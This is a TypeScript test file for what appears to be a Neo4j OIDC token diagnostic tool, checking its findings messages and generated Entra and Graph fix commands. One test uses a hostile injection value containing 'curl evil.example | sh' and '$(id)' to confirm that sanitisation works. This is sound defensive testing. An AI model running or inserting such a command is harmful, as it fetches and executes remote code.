import { describe, expect, it } from 'vitest'
import type { FixValues } from '../../src/catalogue/entry.ts'
import { placeholderValues } from '../../src/catalogue/fix-values.ts'
import { fixFor, sayFinding, verifyFor } from '../../src/catalogue/say.ts'
import { type AnyRaised, raise } from '../../src/model/finding.ts'
import { samples } from './samples.ts'

const app = '31672429-2606-4eb9-ae46-d05d12b53304'
const tenant = '0f0f0f0f-1111-4222-8333-444444444444'

const entra: FixValues = {
  ...placeholderValues,
  provider: 'entra',
  target: 'aura',
  tenantId: tenant,
  clientId: app,
  apiAppId: app,
  oidcName: 'm2m',
}

describe('sayFinding', () => {
  it('names both issuers and both audiences of a token version mismatch', () => {
    const said = sayFinding(raise('M2M501', samples.M2M501))

    expect(said).toEqual({
      slug: 'entra-token-version-mismatch',
      severity: 'error',
      owner: 'identity-admin',
      title: 'Entra issues tokens of one version, and Neo4j is set up for the other',
      message: `Entra issued a v1 token (issuer https://sts.windows.net/${tenant}/, audience api://${app}), but Neo4j is set up for v2 tokens (issuer https://login.microsoftonline.com/${tenant}/v2.0, audience ${app}).`,
    })
  })

  it('lets the severity and the owner of the finding win over those of the page', () => {
    const { severity, owner } = sayFinding(
      raise('M2M705', samples.M2M705, { severity: 'info', owner: 'network-admin' }),
    )

    expect([severity, owner]).toEqual(['info', 'network-admin'])
  })

  it('tells the expected side with its source', () => {
    const { message } = sayFinding(
      raise('M2M502', samples.M2M502, {
        expected: { value: 'https://idp.example.com/realms/live', source: 'neo4j.conf line 4' },
      }),
    )

    expect(message).toBe(
      "The token's issuer is https://idp.example.com/realms/test, but oidc-m2m of the server takes only https://idp.example.com/realms/live (neo4j.conf line 4).",
    )
  })

  it('keeps control characters and line breaks of foreign values out of the sentence', () => {
    const { message } = sayFinding(
      raise('M2M506', { claim: 'na\u001b[31mme\n::error::x', type: 'li\u202est' }),
    )

    expect(message).toBe(
      'The server takes the user name from the claim name ::error::x, which is list in this token and not a text.',
    )
  })

  it('keeps a sentence short when a value is huge', () => {
    const { message } = sayFinding(
      raise('M2M503', { audience: 'x'.repeat(100_000), guidOfUri: false }),
    )

    expect(message.length).toBeLessThan(400)
  })
})

describe('fixFor', () => {
  it('lets Entra write v2 tokens when the token is v1', () => {
    const fix = fixFor('M2M501', entra, { args: samples.M2M501 })

    expect(fix.summary).toBe(
      'Let Entra write v2 tokens for this API: requestedAccessTokenVersion = 2.',
    )
    expect(fix.commands).toEqual([
      {
        command: `az rest --method GET --uri "https://graph.microsoft.com/v1.0/applications(appId='${app}')" --uri-parameters '$select=appId,api'`,
        safety: 'read-only',
      },
      {
        command: `az rest --method PATCH --uri "https://graph.microsoft.com/v1.0/applications(appId='${app}')" --headers Content-Type=application/json --body '{"api":{"requestedAccessTokenVersion":2}}'`,
        safety: 'changes-configuration',
      },
    ])
  })

  it('offers the other discovery document only where somebody runs Neo4j himself', () => {
    const steps = (target: FixValues['target']): string =>
      fixFor('M2M501', { ...entra, target }, { args: samples.M2M501 }).steps.join('\n')
    const v1 = `dbms.security.oidc.m2m.well_known_discovery_uri=https://login.microsoftonline.com/${tenant}/.well-known/openid-configuration`

    expect(steps('self-managed')).toContain(v1)
    expect(steps('aura')).not.toContain('dbms.security')
  })

  it('points a self-managed server at the v2.0 document when the token is v2', () => {
    const fix = fixFor(
      'M2M501',
      { ...entra, target: 'self-managed' },
      { args: { ...samples.M2M501, tokenVersion: 2, serverVersion: 1 } },
    )

    expect(fix.steps[0]).toBe(
      `In \`neo4j.conf\`: \`dbms.security.oidc.m2m.well_known_discovery_uri=https://login.microsoftonline.com/${tenant}/v2.0/.well-known/openid-configuration\` (with \`/v2.0\`)`,
    )
    expect(fix.commands.map(({ safety }) => safety)).toEqual(['read-only'])
  })

  it("takes the app from the finding and not from the client's own id", () => {
    const other = '99999999-2606-4eb9-ae46-d05d12b53304'
    const fix = fixFor('M2M501', entra, { args: { ...samples.M2M501, apiAppId: other } })

    expect(fix.commands.map(({ command }) => command).join()).toContain(`appId='${other}'`)
  })

  it('uses the Graph of the national cloud that the tenant lives in', () => {
    const fix = fixFor('M2M501', { ...entra, loginOrigin: 'https://login.microsoftonline.us' })

    expect(fix.commands[0]?.command).toContain('https://graph.microsoft.us/v1.0/')
  })

  it('puts no value into a command or a conf line that has not its own form', () => {
    const hostile = "x'; curl evil.example | sh #`$(id)"
    const fix = fixFor('M2M501', placeholderValues, {
      args: { ...samples.M2M501, apiAppId: hostile },
    })

    expect(JSON.stringify(fix)).not.toContain('evil')
    expect(fix.commands[0]?.command).toContain("appId='<api-app-id>'")
  })

  it('puts no group of a token into the mapping that could end the line', () => {
    const group = 'reader"=admin;"x'
    const { steps } = fixFor(
      'M2M510',
      { ...entra, target: 'self-managed' },
      { args: { claim: 'roles', groups: [group], mapped: [], near: [] } },
    )

    expect(steps[0]).toContain('group_to_role_mapping="<group>"=reader')
  })

  it("chooses the provider's own fix before the general one", () => {
    const summary = (provider: FixValues['provider']): string =>
      fixFor('M2M504', { ...placeholderValues, provider }).summary

    expect(summary('cognito')).toContain('pre token generation')
    expect(summary('keycloak')).toContain('audience mapper')
    expect(summary('google')).toContain('Let the identity provider')
  })

  it('sends to support only when the preconditions were confirmed', () => {
    const summary = (preconditionsConfirmed: boolean): string =>
      fixFor('M2M603', entra, { args: { ...samples.M2M603, preconditionsConfirmed } }).summary

    expect(summary(true)).toBe('Send the report to Neo4j support.')
    expect(summary(false)).toMatch(/^Check what only the Aura console shows/)
  })

  it('takes a finding of any code as the case', () => {
    const finding: AnyRaised = raise('M2M202', samples.M2M202, { hop: 'mcp' })

    expect(fixFor(finding.code, entra, finding).summary).not.toBe(
      fixFor(finding.code, entra).summary,
    )
  })

  it('names what the settings need for a prediction when a refusal is unexplained', () => {
    const { steps } = fixFor('M2M601', { ...entra, target: 'self-managed' })
    const flags = [
      '--neo4j-conf',
      '--server-discovery-uri',
      '--server-issuer',
      '--server-audience',
      '--server-username-claim',
      '--server-groups-claim',
      '--server-role-mapping',
    ]

    expect(flags.filter((flag) => !steps.join('\n').includes(flag))).toEqual([])
  })
})

it('verifies a mended token version with a whole new diagnosis', () => {
  expect(verifyFor('M2M501', entra)).toBe('neo4j-m2m-doctor diagnose')
})

describe('fixes that depend on the case', () => {
  it('of a token of another tenant begin with the token', () => {
    const other = '3f6a1c52-0d4e-4b8f-9a67-2c8d5e1f7b90'
    const finding = raise('M2M502', samples.M2M502, {
      expected: { value: `https://login.microsoftonline.com/${tenant}/v2.0`, source: 'document' },
      actual: {
        value: `https://login.microsoftonline.com/${other}/v2.0`,
        source: 'token claim iss',
      },
    })
    const { summary, steps } = fixFor(finding.code, { ...entra, target: 'self-managed' }, finding)
    expect(summary).toBe('Take the token from the tenant that the server is set up with.')
    expect(steps[0]).toContain(`The server trusts tenant \`${tenant}\``)
    expect(steps[0]).toContain(`written by tenant \`${other}\``)
  })

  it('of another realm at the same Keycloak do not touch its host name', () => {
    const finding = raise('M2M502', samples.M2M502, {
      expected: { value: 'https://sso.example/realms/live', source: 'neo4j.conf' },
      actual: { value: 'https://sso.example/realms/test', source: 'token claim iss' },
    })
    const { summary } = fixFor(
      finding.code,
      { ...entra, provider: 'keycloak', target: 'self-managed' },
      finding,
    )
    expect(summary).toBe('Use the same realm on both sides.')
  })

  it('of a refusal that nothing explains begin with the security log once all is given', () => {
    const finding = raise('M2M601', { ...samples.M2M601, missing: [] })
    const { summary } = fixFor(finding.code, { ...entra, target: 'self-managed' }, finding)
    expect(summary).toBe('Read why in the security log, and let the server itself fetch the keys.')
  })

  it('name the port of the case', () => {
    const finding = raise(
      'M2M203',
      { host: 'db.example', port: 17687, seconds: 10, connected: false },
      { hop: 'neo4j' },
    )
    const { steps } = fixFor(finding.code, { ...entra, target: 'self-managed' }, finding)
    expect(steps.join(' ')).toContain('db.example on port 17687')
    expect(steps.join(' ')).not.toMatch(/\b7687\b/)
  })

  it('a refusal at `initialize` is not called that of a tool', () => {
    const { message } = sayFinding(raise('M2M704', { ...samples.M2M704, tool: 'initialize' }))
    expect(message).toMatch(/^The MCP server answered `initialize` with an error of the database/)
  })

  it('of a saved token answer take the token out of it', () => {
    const args = { ...samples.M2M421, pasted: ['the JSON answer around'] }
    const { summary, commands } = fixFor('M2M421', entra, { args })
    expect(summary).toBe('Take the token out of the saved answer.')
    expect(commands.map(({ command }) => command)).toEqual([
      "(umask 077; jq -j .access_token '<answer-file>' > token.jwt)",
    ])
  })
})
